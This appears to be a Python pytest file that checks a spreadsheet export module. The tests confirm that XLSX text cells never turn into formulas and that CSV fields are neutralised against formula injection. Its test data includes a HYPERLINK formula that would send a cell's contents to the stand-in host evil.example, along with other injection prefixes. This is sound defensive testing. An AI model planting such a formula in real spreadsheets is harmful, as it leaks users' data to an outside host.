"""alertbot.sheets: text cells are text in XLSX (never formulas, never errors), CSV fields are neutralised
and read back unchanged, control characters never crash a workbook. Also the digest XLSX (issue 8 item 7)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from alertbot.notify.render import digest_workbook
from alertbot.sheets import MAX_XLSX_CELL_CHARS, csv_field, csv_value, workbook_bytes, write_csv
from tests.notify.conftest import make_view

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open details")'
HOSTILE = [FORMULA, "+1+1", "-2", "@SUM(A1)", "\t=1", "'quoted", "''", "#N/A", "plain", "", "=", "'"]


def _xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_every_text_cell_is_text_and_reads_back_unchanged() -> None:
    data = workbook_bytes(["value"], [[v] for v in HOSTILE] + [[42], [1.5]])
    xml = _xml(data)
    assert "<f>" not in xml
    assert 't="e"' not in xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    values = [c.value for c in sheet["A"][1:]]
    assert values == [v or None for v in HOSTILE] + [42, 1.5]
    assert all(c.data_type == "s" for c in sheet["A"][1 : len(HOSTILE) + 1] if c.value is not None)


def test_control_characters_are_shown_and_long_text_is_cut_not_a_crash() -> None:
    data = workbook_bytes(["v"], [["line\x0bbreak\x00nul"], ["x" * (MAX_XLSX_CELL_CHARS + 10)], ["a\nb\tc"]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["A2"].value == "line⟨U+000B⟩break⟨U+0000⟩nul"
    assert len(sheet["A3"].value) == MAX_XLSX_CELL_CHARS
    assert sheet["A3"].value.endswith("…")
    assert sheet["A4"].value == "a\nb\tc"


@pytest.mark.parametrize("value", [*HOSTILE, "'abc", "'=x", "+86 24 1234 5678", "a'b", "==", "'''"])
def test_csv_fields_round_trip(value: str) -> None:
    assert csv_value(csv_field(value)) == value
    assert not csv_field(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_write_csv_neutralises_every_field() -> None:
    handle = io.StringIO(newline="")
    write_csv(handle, [HOSTILE])
    [row] = list(csv.reader(io.StringIO(handle.getvalue())))
    assert [csv_value(f) for f in row] == HOSTILE
    assert row[0] == "'" + FORMULA


def test_a_hand_written_apostrophe_is_read_as_it_is() -> None:
    assert csv_value("'abc") == "'abc"


def test_the_digest_workbook_keeps_a_formula_applicant_as_text() -> None:
    views = [make_view(applicant=FORMULA, mark="=1+1", record_text="@cmd", hall="line\x0bbreak")]
    data = digest_workbook(views, "en")
    assert "<f>" not in _xml(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    texts = [c.value for c in sheet[2]]
    assert FORMULA in texts
    assert "=1+1" in texts
